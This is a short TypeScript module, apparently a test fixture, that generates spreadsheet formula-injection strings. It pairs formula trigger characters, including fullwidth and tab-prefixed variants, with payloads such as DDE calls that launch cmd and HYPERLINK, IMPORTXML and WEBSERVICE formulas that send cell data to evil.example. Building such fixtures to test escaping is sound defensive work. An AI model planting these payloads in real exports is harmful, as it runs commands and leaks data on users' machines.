const signs = ["=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", "''@"];
const formulas = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"open")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("http://evil.example","//x")',
  'WEBSERVICE("http://evil.example")',
];

/** Texts that a spreadsheet would run as a formula. */
export const cells: readonly string[] = signs.flatMap((sign) => formulas.map((formula) => sign + formula));
